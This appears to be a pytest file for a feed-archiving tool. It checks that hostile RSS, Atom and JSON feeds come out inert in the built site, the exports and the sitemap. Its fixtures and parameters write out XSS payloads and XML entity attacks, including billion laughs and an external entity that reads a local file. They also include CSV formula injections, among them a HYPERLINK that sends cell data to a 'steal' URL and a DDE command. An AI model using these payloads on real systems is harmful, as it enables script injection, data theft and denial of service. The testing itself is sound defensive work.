"""Hostile feeds, end to end: what a stranger's feed can do to the archive and the built site.

Each case below is a row of a table: the input, then the outcome we promise, written next to it
(the fixtures are listed with the same outcomes in tests/fixtures/hostile/README.md).
Cases already covered elsewhere are not repeated here:

- drip, endless body, gzip cap, redirect loops, 429/503 Retry-After, 404/410: test_fetch.py
- XSS payloads through sanitize and convert, one by one: test_sanitize.py, test_convert.py
  (tests/fixtures/feeds/xss.xml); tricky titles through parse: test_parse.py
- a hand-edited page kept, a second concurrent run exits 3: test_pipeline.py
- YAML bombs and python tags in a hand-written page: test_archive.py

What this file adds: every field that reaches a page, fetched over HTTP and built by
`mkdocs build --strict` with an address (`SITE_URL`, as the Pages workflow builds), then every
generated file scanned, link previews, JSON-LD, the exports and the sitemap included; XML
entity attacks; encodings; servers that are not what they claim; titles that try to break
paths and YAML.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import socket
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import extruct
import pytest
import yaml
from click.testing import CliRunner
from feedserver import FeedServer, Response
from lxml import etree
from newsarchive.archive import load_archive, read_article
from newsarchive.cli import cli
from newsarchive.config import load_project
from newsarchive.fetch import FetchOptions
from newsarchive.model import Source
from newsarchive.parse import ParseError, parse_feed
from newsarchive.pipeline import run_fetch
from newsarchive.validate import raw_html, validate
from test_discovery import sitemap_schema

REPO = Path(__file__).resolve().parent.parent
HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
MKDOCS = Path(sys.executable).parent / "mkdocs"
FAST = FetchOptions(connect_timeout=2, read_timeout=2, total_timeout=10, retries=0, backoff=0.01)
FETCHED = datetime(2026, 2, 14, 6, 0, tzinfo=UTC)
SITE = "https://example.org/hostile/"  # the address the test sites are built with

# ---------------------------------------------------------------------------------------------
# A throw-away project: feeds/ pointing at the local server, docs/, and a mkdocs.yml that uses
# the repository's theme and Markdown extensions (attr_list, md_in_html: real attack surface)
# with only the newsarchive plugin, as configured there (both editions, the licence).

BENIGN_RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Example Daily</title><link>https://example.com/</link>
<language>en</language>
<item><title>OpenAI retires GPT-4o from ChatGPT</title>
<link>https://example.com/tech/gpt-4o-retired</link><guid>benign-1</guid>
<pubDate>Fri, 13 Feb 2026 08:00:00 GMT</pubDate>
<description>OpenAI retires GPT-4o from ChatGPT today, as announced.</description></item>
</channel></rss>
"""

TAGS = """\
tags:
  - id: retirement
    label: Retirement
    keywords: [retire, retires, exit, leaves]
"""


def make_project(root: Path, sources: list[dict], *, include: tuple[str, ...] = ("GPT-4o",),
                 mkdocs: bool = False) -> Path:
    """feeds/ + docs/articles/ (+ mkdocs.yml and a home page when `mkdocs`)."""
    feeds = root / "feeds"
    feeds.mkdir(parents=True, exist_ok=True)
    (root / "docs" / "articles").mkdir(parents=True, exist_ok=True)
    (feeds / "sources.yml").write_text(yaml.safe_dump({"sources": sources}, sort_keys=False),
                                       encoding="utf-8")
    (feeds / "topics.yml").write_text(yaml.safe_dump({"include": list(include)}),
                                      encoding="utf-8")
    (feeds / "tags.yml").write_text(TAGS, encoding="utf-8")
    if mkdocs:
        real = yaml.safe_load((REPO / "mkdocs.yml").read_text(encoding="utf-8"))
        config = {key: real[key] for key in ("theme", "markdown_extensions", "validation",
                                             "not_in_nav", "use_directory_urls") if key in real}
        config["theme"]["features"] = [f for f in config["theme"].get("features", [])
                                       if not f.startswith("search")]
        options = next(p["newsarchive"] for p in real["plugins"]
                       if isinstance(p, dict) and "newsarchive" in p)
        config.update(site_name="Hostile test archive", plugins=[{"newsarchive": options}])
        (root / "mkdocs.yml").write_text(yaml.safe_dump(config, sort_keys=False),
                                         encoding="utf-8")
        (root / "docs" / "index.md").write_text(
            "# Test archive\n\n<!-- newsarchive:counts -->\n\n<!-- newsarchive:latest 20 -->\n",
            encoding="utf-8")
    return root


def source(id_: str, url: str, *, whole_feed: bool = True, **extra) -> dict:
    return {"id": id_, "name": id_.replace("-", " ").title(), "url": url,
            "whole_feed": whole_feed, **extra}


def cli_fetch(root: Path, *extra: str) -> tuple[int, dict]:
    """`newsarchive fetch --root ROOT --json`: exit code and the JSON report."""
    result = CliRunner().invoke(cli, ["fetch", "--root", str(root), "--json", "--timeout", "3",
                                      *extra])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout)


def mkdocs_build(root: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(MKDOCS), "build", "--strict", "-f", str(root / "mkdocs.yml")],
                          capture_output=True, text=True, timeout=300,
                          env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin",
                               "SITE_URL": SITE})


def every_file_text(root: Path) -> Iterator[tuple[Path, str]]:
    for path in sorted(root.rglob("*")):
        if path.is_file():
            yield path, path.read_bytes().decode("utf-8", errors="replace")


# ---------------------------------------------------------------------------------------------
# 1. XSS in every field, end to end

# Where each attack in tests/fixtures/hostile/fields.* sits, and what must become of it.
XSS_FIELDS = [
    # (fixture, field, expected outcome)
    ("fields.rss", "title with <script> and <img onerror>", "text only; tags dropped"),
    ("fields.rss", "dc:creator / <author> with markup", "author 'Eve Example', text only"),
    ("fields.rss", "category with <script> / <svg onload>", "never a tag (not in vocabulary)"),
    ("fields.rss", "description <script>, <img onerror>", "removed from summary and body"),
    ("fields.rss", "content: javascript: ( JaVaScRiPt:, jav&#x09;ascript:, &#x6A;, data:, "
                   "vbscript:, java&#10;script:)", "link text kept, href dropped"),
    ("fields.rss", "content: svg xlink:href/animate, iframe, object, embed, form/formaction",
     "removed"),
    ("fields.rss", "content: style=expression(), <style>", "removed"),
    ("fields.rss", "enclosure, media:thumbnail, media:content javascript:/data: URLs",
     "never read: no page field takes them"),
    ("fields.rss", "Markdown in title/author/summary: [x](javascript:), ![x](x\" onerror=), "
                   "{: onclick=}, reference definition", "shown as literal text"),
    ("fields.rss", "<code>/<pre> holding <script>, backticks, ``` and a </pre> break-out",
     "code text, never markup"),
    ("fields.rss", "<source> publisher name with <img onerror>", "publisher 'Evil Daily'"),
    ("fields.rss", "link with <script> and quotes in the query", "percent-encoded URL"),
    ("fields.rss", "item <link> javascript: / entity-obfuscated", "entry skipped, warned"),
    ("fields.atom", "title type=html with <svg onload>, <iframe>", "text only"),
    ("fields.atom", "author name with <img onerror>, uri javascript:", "author 'Mallory'"),
    ("fields.atom", "summary type=xhtml with javascript: link and <script>", "removed"),
    ("fields.atom", "content type=html vbscript:, <img onerror>, <math xlink:href>", "removed"),
    ("fields.atom", "rel=enclosure javascript:, source title with <script>", "not used / text"),
    ("fields.json", "title/summary/content_html/authors/tags with markup", "text only / removed"),
    ("fields.json", "image, banner_image, attachments, author url/avatar: javascript:/data:",
     "never read"),
    ("fields.json", "item url javascript:", "entry skipped, warned"),
]

# Schemes a browser would run or render as a document.
BAD_SCHEMES = ("javascript", "data", "vbscript")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc",
                  "poster", "background", "cite", "lowsrc", "dynsrc", "ping", "srcset"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}
_JUNK = re.compile(r"[\x00-\x20\x7f\u00a0\u1680\u2000-\u200f\u2028\u2029\u202f\u205f\u3000"
                   r"\ufeff]")


def browser_scheme(value: str) -> str | None:
    """The scheme a browser reads: entities decoded (html.parser already did one level),
    whitespace and control characters dropped, lower case."""
    for _ in range(3):
        value = html.unescape(value)
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", _JUNK.sub("", value))
    return match.group(1).lower() if match else None


@dataclass
class Scan:
    scripts: set[tuple[str, str]] = field(default_factory=set)  # (src, text)
    problems: list[str] = field(default_factory=list)
    data: list[object] = field(default_factory=list)  # each JSON-LD block, parsed


class _Scanner(HTMLParser):
    def __init__(self, scan: Scan, where: str) -> None:
        super().__init__(convert_charrefs=True)
        self.scan, self.where = scan, where
        self.in_script: str | None = None
        self.in_data = False  # a <script type="application/ld+json">: data, never run
        self.script_text: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)
        if tag == "script":
            self.in_script = dict(attrs).get("src") or ""
            self.in_data = dict(attrs).get("type") == "application/ld+json"
            self.script_text = []
        elif tag == "style":
            self.in_style = True

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.in_script is not None:
            body = "".join(self.script_text).strip()
            if self.in_data:  # must be one whole JSON document that no markup broke into
                try:
                    self.scan.data.append(json.loads(body))
                except ValueError:
                    self.scan.problems.append(f"{self.where}: JSON-LD that is not JSON: "
                                              f"{body[:60]!r}")
                if "<" in body:
                    self.scan.problems.append(f"{self.where}: '<' inside JSON-LD")
            else:
                self.scan.scripts.add((self.in_script, body))
            self.in_script = None
        elif tag == "style":
            self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_script is not None:
            self.script_text.append(data)
        elif self.in_style and ("expression(" in data.lower() or "javascript:" in data.lower()):
            self.scan.problems.append(f"{self.where}: <style> with {data[:60]!r}")

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"{self.where}: <{tag}>"
        if tag in FORBIDDEN_TAGS:
            self.scan.problems.append(f"{where} is forbidden")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "").lower() == "refresh":
            self.scan.problems.append(f"{where} refresh")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.scan.problems.append(f"{where} has handler {name}={value[:60]!r}")
            if name in URL_ATTRIBUTES:
                urls = value.split(",") if name == "srcset" else [value]
                for url in urls:
                    if browser_scheme(url.strip()) in BAD_SCHEMES:
                        self.scan.problems.append(f"{where} {name}={value[:60]!r}")
            if name == "style" and re.search(r"expression\s*\(|javascript:|url\s*\(",
                                             value, re.I):
                self.scan.problems.append(f"{where} style={value[:60]!r}")


def scan_site(site: Path) -> Scan:
    scan = Scan()
    for page in sorted(site.rglob("*.html")):
        parser = _Scanner(scan, str(page.relative_to(site)))
        parser.feed(page.read_text(encoding="utf-8"))
        parser.close()
    return scan


@pytest.mark.parametrize("snippet", [
    '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>', '<img src="x" onerror="alert(1)">',
    '<iframe src="https://example.net/"></iframe>', '<svg><a xlink:href="data:text/html,x">',
    '<button formaction="vbscript:x">', '<p style="width: expression(alert(1))">',
    '<form action="&#106;avascript:x">', '<meta http-equiv="refresh" content="0">',
    '<script type="application/ld+json">{"headline": "</script><script>x()</script>',
])
def test_the_scanner_finds_what_it_looks_for(snippet: str) -> None:
    """The site scan below proves nothing unless it can fail: each snippet is a finding."""
    scan = Scan()
    _Scanner(scan, "snippet").feed(snippet)
    assert scan.problems


@dataclass
class BuiltSite:
    root: Path
    site: Path
    report: dict
    exit_code: int
    build_output: str


def _fetch_and_build(root: Path, sources: list[dict]) -> BuiltSite:
    make_project(root, sources, mkdocs=True)
    code, report = cli_fetch(root)
    built = mkdocs_build(root)
    assert built.returncode == 0, built.stdout + built.stderr
    return BuiltSite(root, root / "site", report, code, built.stdout + built.stderr)


@pytest.fixture(scope="module")
def xss_sites(tmp_path_factory) -> Iterator[tuple[BuiltSite, BuiltSite]]:
    """(baseline, hostile): the same project built without and with the hostile feeds."""
    with FeedServer() as server:
        server.add("/daily.rss", BENIGN_RSS.encode())
        server.add("/fields.rss", (HOSTILE / "fields.rss").read_bytes())
        server.add("/fields.atom", (HOSTILE / "fields.atom").read_bytes(),
                   content_type="application/atom+xml")
        server.add("/fields.json", (HOSTILE / "fields.json").read_bytes(),
                   content_type="application/feed+json")
        benign = [source("example-daily", server.url("/daily.rss"), lang="en")]
        hostile = benign + [source("hostile-rss", server.url("/fields.rss")),
                            source("hostile-atom", server.url("/fields.atom")),
                            source("hostile-json", server.url("/fields.json"))]
        baseline = _fetch_and_build(tmp_path_factory.mktemp("baseline"), benign)
        attacked = _fetch_and_build(tmp_path_factory.mktemp("hostile"), hostile)
    yield baseline, attacked


def test_hostile_feeds_are_archived_and_the_strict_build_passes(xss_sites) -> None:
    _, hostile = xss_sites
    # Expected: every feed ok (exit 0); entries with javascript: links skipped with a warning.
    assert hostile.exit_code == 0, hostile.report
    written = {f["feed"]: f["written"] for f in hostile.report["feeds"]}
    assert written == {"example-daily": 1, "hostile-rss": 4, "hostile-atom": 2,
                       "hostile-json": 2}
    warnings = "\n".join(w for f in hostile.report["feeds"] for w in f["warnings"])
    assert warnings.count("unusable link: not an http(s) URL") == 3
    assert "WARNING" not in hostile.build_output
    project = load_project(hostile.root)
    assert [str(p) for p in validate(project)] == []


def test_fields_come_out_as_plain_text(xss_sites) -> None:
    _, hostile = xss_sites
    articles = {a.url: a for a in load_archive(hostile.root / "docs/articles").articles}
    first = articles["https://example.net/hostile/script-title"]
    assert first.title == "GPT-4o leaves ChatGPT"
    assert first.authors == ["Eve Example"]
    assert first.tags == ["retirement"]  # the hostile categories are not tags
    md = articles["https://example.net/hostile/markdown-title"]
    assert md.title.startswith("[GPT-4o exit](javascript:alert('md title link'))")
    assert md.authors == ["[Eve](javascript:alert('md author'))"]
    publisher = articles[
        "https://example.net/hostile/publisher?q=%3Cscript%3Ealert('query')%3C/script%3E"
        "&x=%22onmouseover%3D%22alert('q')"]
    assert publisher.source == "Evil Daily"  # the <img onerror> of <source> is gone
    atom = articles["https://example.net/hostile/atom-entry"]
    assert (atom.authors, atom.source) == (["Mallory"], "Evil Source")
    for article in articles.values():
        for value in (article.title, article.summary, article.source, *article.authors):
            assert not re.search(r"<[a-zA-Z/!?]", value), value


def test_no_script_handler_or_bad_url_in_any_generated_page(xss_sites) -> None:
    baseline, hostile = xss_sites
    before, after = scan_site(baseline.site), scan_site(hostile.site)
    assert before.problems == []  # the scanner finds nothing in a clean build either
    # Expected: no problem at all, and no <script> that a clean build does not have (JSON-LD
    # blocks are data: each parsed as JSON instead).
    assert after.problems == []
    assert after.scripts - before.scripts == set()
    assert len(after.data) > len(before.data) >= 3
    assert len(list(hostile.site.rglob("*.html"))) > len(list(baseline.site.rglob("*.html")))


def test_hostile_text_is_visible_but_inert(xss_sites) -> None:
    _, hostile = xss_sites
    pages = [p for p in hostile.site.glob("articles/**/index.html")]
    assert len(pages) == 9
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    # The Markdown-looking title is shown as text: its brackets survive, no link is made of it.
    assert "[GPT-4o exit](javascript:alert(" in html.unescape(text)
    assert not re.search(r"<a[^>]+href=\"\s*javascript", text, re.I)


def test_feed_xml_and_articles_json_carry_no_raw_markup(xss_sites) -> None:
    """Feed readers render feed.xml's HTML too. Expected: no raw <script anywhere, no link with
    a bad scheme, and any embedded HTML passes the same scan as the pages. (Titles may contain
    the *text* "javascript:": a Markdown-looking headline is shown as it was written.)"""
    _, hostile = xss_sites
    for name in ("feed.xml", "articles.json"):
        assert "<script" not in (hostile.site / name).read_text(encoding="utf-8").lower(), name
    scan = Scan()
    tree = ET.parse(hostile.site / "feed.xml")
    for element in tree.iter():
        for name, value in element.attrib.items():
            if name in ("href", "src", "uri") and browser_scheme(value) in BAD_SCHEMES:
                scan.problems.append(f"feed.xml <{element.tag}> {name}={value!r}")
        if element.get("type") in ("html", "xhtml") and element.text:
            _Scanner(scan, f"feed.xml <{element.tag}>").feed(element.text)
    assert scan.problems == [] and scan.scripts == set()
    data = json.loads((hostile.site / "articles.json").read_text(encoding="utf-8"))
    found = list(strings(data))
    assert len({v for k, v in found if k == "title"}) >= 8
    for key, value in found:
        if "url" in key.lower() or key in ("href", "link"):
            assert browser_scheme(value) not in BAD_SCHEMES, (key, value)
        assert not re.search(r"<(script|img|svg|iframe)", value, re.I), (key, value)


def strings(value, key=""):
    """(key, text) of every string in parsed JSON; a list's items under the list's key."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from strings(v, k)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v, key)
    elif isinstance(value, str):
        yield key, value


MARKUP = re.compile(r"<[a-zA-Z/!?]")
URL_KEYS = ("url", "@id", "archivedAt", "urlTemplate", "license")


def test_link_previews_and_structured_data_carry_feed_text_as_text(xss_sites) -> None:
    """Every page's Open Graph and JSON-LD, read as a crawler reads them (extruct): the hostile
    headlines, authors, publishers and summaries are there as the text the pages show, never
    markup; every address is the site's own or an http(s) original."""
    _, hostile = xss_sites
    articles = load_archive(hostile.root / "docs/articles").articles
    originals = {a.url for a in articles}
    headlines, authors = set(), set()
    for page in sorted(hostile.site.rglob("index.html")):
        found = extruct.extract(page.read_text(encoding="utf-8"),
                                syntaxes=["opengraph", "json-ld"])
        props = [p for item in found["opengraph"] for p in item["properties"]]
        assert dict(props)["og:url"].startswith(SITE), page
        for prop, value in props:
            assert not MARKUP.search(value), (page, prop, value)
        for data in found["json-ld"]:
            for key, value in strings(data):
                assert not MARKUP.search(value), (page, key, value)
                if key in URL_KEYS:
                    assert value.startswith(SITE) or value in originals or (
                        key == "license" and value.startswith("https://creativecommons.org/")
                    ), (page, key, value)
                    assert browser_scheme(value) in ("http", "https"), (page, key, value)
            if data["@type"] == "ItemPage":
                headlines.add(data["mainEntity"]["headline"])
                authors |= {x["name"] for x in data["mainEntity"].get("author", [])}
    assert headlines == {" ".join(a.title.split()) for a in articles}
    assert {"Eve Example", "Mallory", "@SUM(1+1)*cmd|' /C calc'!A0"} <= authors


def test_articles_csv_shows_formulas_from_feeds_as_text(xss_sites) -> None:
    """A headline, author or summary that a spreadsheet would run is shown as text: its cell
    starts with a quote. Expected: no cell of articles.csv starts a formula."""
    _, hostile = xss_sites
    text = (hostile.site / "articles.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 9
    for row in rows:
        for value in row.values():
            assert not re.match(r"[\s\x00-\x1f]*[=+\-@]", value), value
    formula = next(r for r in rows if r["url"] == "https://example.net/hostile/formula")
    assert formula["title"] == ("'=HYPERLINK(\"https://example.net/steal?d=\"&A1,"
                                "\"GPT-4o leaves ChatGPT\")")
    assert formula["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert formula["summary"].startswith("'+cmd|' /C calc'!A0 GPT-4o leaves ChatGPT")


def test_the_sitemap_of_the_hostile_site_is_valid(xss_sites) -> None:
    _, hostile = xss_sites
    tree = ET.parse(hostile.site / "sitemap.xml")
    locs = [x.text for x in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert len(locs) == len(set(locs)) == len(list(hostile.site.rglob("index.html")))
    assert all(loc.startswith(SITE) for loc in locs)
    schema = sitemap_schema()
    assert schema.validate(etree.parse(str(hostile.site / "sitemap.xml"))), schema.error_log


def test_pages_on_disk_carry_no_raw_markup(xss_sites) -> None:
    _, hostile = xss_sites
    """Front matter is plain text (a summary may *say* "[x](javascript:...)"); the Markdown
    body holds no raw HTML outside code spans, and no link or image with a bad scheme."""
    for path, text in every_file_text(hostile.root / "docs" / "articles"):
        front, body = text.split("\n---\n", 1)
        data = yaml.safe_load(front.removeprefix("---\n"))
        values = [data["title"], data["summary"], data["source"], *data.get("authors", [])]
        assert not any(re.search(r"<[a-zA-Z/!?]", v) for v in values), (path, values)
        assert raw_html(body) is None, f"{path}: {raw_html(body)}"
        outside_code = re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "", body, flags=re.S)
        # An unescaped "](" starts a link target; "\\](" is the literal text.
        link = re.search(r"(?<!\\)\]\(\s*<?\s*(javascript|data|vbscript):", outside_code)
        assert link is None, f"{path}: {link.group(0) if link else ''}"


# ---------------------------------------------------------------------------------------------
# 2. XML attacks: entity expansion, external entities, external DTDs, parameter entities

MARKER = "XXE-MARKER-7f3c9b2e"
LAUGHS = '<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10))
QUADRATIC = f'<!ENTITY big "{"A" * 50_000}">'


def _rss(doctype: str, title: str, description: str) -> str:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE rss [{doctype}]>\n<rss version="2.0"><channel>'
            f"<title>t</title><item><title>{title}</title>"
            "<link>https://example.com/tech/xml-attack</link>"
            f"<description>{description}</description></item></channel></rss>")


def _atom(doctype: str, title: str, description: str) -> str:
    return (f'<?xml version="1.0"?>\n<!DOCTYPE feed [{doctype}]>\n'
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><id>x</id><entry>'
            f'<title>{title}</title><link href="https://example.com/tech/xml-attack"/><id>e</id>'
            f"<summary>{description}</summary></entry></feed>")


def xml_attacks(secret: Path) -> dict[str, str]:
    """Each attack as a feed; `secret` holds MARKER and must never be read."""
    uri = secret.as_uri()
    out = {}
    for fmt, make in (("rss", _rss), ("atom", _atom)):
        out[f"{fmt}-billion-laughs"] = make(LAUGHS, "GPT-4o &lol9;", "&lol9;")
        out[f"{fmt}-quadratic-blowup"] = make(QUADRATIC, "GPT-4o", "&big;" * 20_000)
        out[f"{fmt}-external-entity"] = make(f'<!ENTITY xxe SYSTEM "{uri}">',
                                             "GPT-4o &xxe;", "before &xxe; after")
        out[f"{fmt}-parameter-entity"] = make(
            f'<!ENTITY % p SYSTEM "{uri}"> %p;', "GPT-4o", "parameter entity")
        out[f"{fmt}-external-dtd"] = make("", "GPT-4o", "external DTD").replace(
            f"<!DOCTYPE {'rss' if fmt == 'rss' else 'feed'} []>",
            f'<!DOCTYPE {"rss" if fmt == "rss" else "feed"} SYSTEM "{uri}">')
    return out


# Expected outcome for every attack: parse returns at most the one entry, never the secret,
# never an expanded entity; fields stay small. Entity expansion is refused by expat's
# amplification limit and the entry is recovered from the raw text, with a warning.
XML_EXPECTED = {
    "billion-laughs": "one entry, entity left unexpanded, 'malformed feed' warning",
    "quadratic-blowup": "one entry, summary bounded, 'malformed feed' warning",
    "external-entity": "one entry, entity dropped (never fetched), no warning needed",
    "parameter-entity": "one entry, parameter entity never fetched",
    "external-dtd": "one entry, DTD never fetched",
}


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(MARKER + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["rss", "atom"])
@pytest.mark.parametrize("attack", list(XML_EXPECTED))
def test_xml_attack_is_contained_by_parse(secret: Path, fmt: str, attack: str) -> None:
    body = xml_attacks(secret)[f"{fmt}-{attack}"].encode()
    feed = parse_feed(body, Source(id="attack", name="Attack", url="https://example.com/f"),
                      fetched_at=FETCHED)
    [entry] = feed.entries  # expected: see XML_EXPECTED[attack]
    for value in (entry.title, entry.summary_html, entry.content_html, *feed.warnings):
        assert MARKER not in value
        assert "lollollol" not in value
        assert len(value) < 250_000  # 20,000 x 50,000 characters would be 1 GB
    assert entry.title.startswith("GPT-4o")


def test_xml_attacks_end_to_end_in_a_memory_capped_process(tmp_path: Path, secret: Path) -> None:
    """All attacks as feeds of one project, fetched by `newsarchive fetch` under a 1 GiB
    address-space limit. Expected: the run finishes, every feed ok, one page per feed, and
    the secret appears in no page, no state file and no output."""
    attacks = xml_attacks(secret)
    with FeedServer() as server:
        sources = []
        for name, body in attacks.items():
            ctype = "application/atom+xml" if name.startswith("atom") else "application/rss+xml"
            server.add(f"/{name}", body.encode(), content_type=ctype)
            sources.append(source(name, server.url(f"/{name}")))
        # Each feed points at the same article URL: give each its own, so each writes a page.
        for name in attacks:
            server.add(f"/{name}", attacks[name].replace(
                "xml-attack", f"xml-attack-{name}").encode(),
                content_type="application/atom+xml" if name.startswith("atom")
                else "application/rss+xml")
        root = make_project(tmp_path / "project", sources)
        limit = 1 << 30
        code = ("import resource, sys\n"
                f"resource.setrlimit(resource.RLIMIT_AS, ({limit}, {limit}))\n"
                "from newsarchive.cli import main\n"
                "sys.argv = ['newsarchive', 'fetch', '--root', sys.argv[1], '--json']\n"
                "main()\n")
        result = subprocess.run([sys.executable, "-c", code, str(root)], capture_output=True,
                                text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]
    report = json.loads(result.stdout)
    assert {f["feed"]: (f["status"], f["written"]) for f in report["feeds"]} == {
        name: ("ok", 1) for name in attacks}
    assert MARKER not in result.stdout + result.stderr
    for path, text in every_file_text(root):
        assert MARKER not in text, path
        assert "lollollol" not in text, path
        assert len(text) < 2 * 100_000 + 10_000, path  # bounded by parse.MAX_FIELD_CHARS


# ---------------------------------------------------------------------------------------------
# 3. Encodings: correct Unicode, or the feed reported; never mojibake written silently

TITLE = "Café: GPT-4o’s farewell — «adieu» à Noël"
SUMMARY = "Résumé naïve: les utilisateurs disent adieu à GPT-4o."
MOJIBAKE = ("Ã©", "Ã¨", "Ã«", "Ã ", "â€™", "â€”", "â€œ", "Â«", "Â»", "Ã¯", "\ufffd")


def _enc_rss(decl: str | None, title: str = TITLE) -> str:
    head = f'<?xml version="1.0" encoding="{decl}"?>\n' if decl else ""
    return (f'{head}<rss version="2.0"><channel><title>Exemple</title><item><title>{title}'
            "</title><link>https://example.com/tech/encoding</link>"
            f"<description>{SUMMARY}</description></item></channel></rss>")


LATIN1_TITLE = "Café: GPT-4o farewell — «adieu» à Noël".replace("—", "-")

# (id, body, Content-Type header, expected title or None for "feed reported as an error",
#  whether a warning must name the encoding problem)
ENCODING_CASES = [
    # UTF-8 without any declaration: XML's default, read as is.
    pytest.param(_enc_rss(None).encode(), "application/rss+xml", TITLE, False,
                 id="undeclared-utf8"),
    # Declared ISO-8859-1 but the bytes are UTF-8: feedparser tries UTF-8 first; correct text.
    pytest.param(_enc_rss("iso-8859-1").encode(), None, TITLE, False, id="says-latin1-is-utf8"),
    # Declared UTF-8 but the bytes are Latin-1: read as windows-1252, with a warning.
    pytest.param(_enc_rss("utf-8", LATIN1_TITLE).encode("latin-1"), None, LATIN1_TITLE, True,
                 id="says-utf8-is-latin1"),
    # Byte order marks.
    pytest.param(b"\xef\xbb\xbf" + _enc_rss("utf-8").encode(), None, TITLE, False,
                 id="utf8-bom"),
    pytest.param(b"\xef\xbb\xbf" + _enc_rss("iso-8859-1").encode(), None, TITLE, False,
                 id="utf8-bom-beats-latin1-declaration"),
    pytest.param(_enc_rss("utf-16").encode("utf-16-le").join([b"\xff\xfe", b""]), None, TITLE,
                 False, id="utf16le-bom"),
    pytest.param(_enc_rss("utf-16").encode("utf-16-be").join([b"\xfe\xff", b""]), None, TITLE,
                 False, id="utf16be-bom"),
    # A byte order mark decides, whatever else is (or is not) declared (RFC 7303): UTF-16 and
    # UTF-32 served as text/xml without a charset (common), without an XML declaration, or
    # under a declaration or charset that says otherwise.
    pytest.param(_enc_rss(None).encode("utf-16"), None, TITLE, False, id="utf16-undeclared"),
    pytest.param(_enc_rss(None).encode("utf-16"), "text/xml", TITLE, False,
                 id="utf16-text-xml"),
    pytest.param(b"\xfe\xff" + _enc_rss("utf-16").encode("utf-16-be"), "text/xml", TITLE, False,
                 id="utf16be-text-xml"),
    pytest.param(_enc_rss(None).encode("utf-32"), "text/xml", TITLE, False,
                 id="utf32le-text-xml"),
    pytest.param(b"\x00\x00\xfe\xff" + _enc_rss("utf-32").encode("utf-32-be"), "text/xml",
                 TITLE, False, id="utf32be-text-xml"),
    pytest.param(_enc_rss("iso-8859-1").encode("utf-16"), "application/rss+xml; charset=utf-8",
                 TITLE, False, id="utf16-bom-beats-both-declarations"),
    # HTTP charset and XML declaration disagree, bytes are UTF-8 either way: correct text.
    pytest.param(_enc_rss("utf-8").encode(), "application/rss+xml; charset=iso-8859-1", TITLE,
                 False, id="http-latin1-xml-utf8"),
    pytest.param(_enc_rss("iso-8859-1").encode(), "text/xml; charset=utf-8", TITLE, False,
                 id="http-utf8-xml-latin1"),
    # HTTP says UTF-8, bytes are Latin-1 as the declaration says: read as Latin-1, warned.
    pytest.param(_enc_rss("iso-8859-1", LATIN1_TITLE).encode("latin-1"),
                 "application/rss+xml; charset=utf-8", LATIN1_TITLE, True,
                 id="http-utf8-bytes-latin1"),
    # Mixed: a UTF-8 feed with a few windows-1252 bytes (a copy-paste from a CMS). Before the
    # fix the whole feed was read as windows-1252: "CafÃ©". Now: UTF-8 kept, odd bytes
    # read as windows-1252, and a warning says so.
    pytest.param(_enc_rss("utf-8").encode().replace("Résumé".encode(), b"R\xe9sum\xe9")
                 .replace("’".encode(), b"\x92"), None, TITLE, True, id="mixed-utf8-cp1252"),
    pytest.param(_enc_rss(None).encode().replace("Résumé".encode(), b"R\xe9sum\xe9"),
                 "application/rss+xml", TITLE, True, id="mixed-undeclared"),
    # windows-1252 bytes (0x80-0x9F) in a feed declared ISO-8859-1: curly quotes, not C1 codes.
    pytest.param(_enc_rss("iso-8859-1", "GPT-4o’s farewell — “adieu”").encode("cp1252"), None,
                 "GPT-4o’s farewell — “adieu”", False, id="cp1252-declared-latin1"),
]


@pytest.mark.parametrize("body, content_type, expected, warned", ENCODING_CASES)
def test_encoding_gives_unicode_or_a_report(body: bytes, content_type: str | None,
                                            expected: str | None, warned: bool) -> None:
    feed_source = Source(id="enc", name="Enc", url="https://example.com/feed")
    if expected is None:
        with pytest.raises(ParseError, match="feed enc"):
            parse_feed(body, feed_source, fetched_at=FETCHED, content_type=content_type)
        return
    feed = parse_feed(body, feed_source, fetched_at=FETCHED, content_type=content_type)
    [entry] = feed.entries
    assert entry.title == expected
    for value in (entry.title, entry.summary_html):
        assert not any(m in value for m in MOJIBAKE), value
    encoding_warnings = [w for w in feed.warnings if "encoding" in w]
    assert bool(encoding_warnings) == warned, feed.warnings


def test_encodings_end_to_end_write_no_mojibake(tmp_path: Path) -> None:
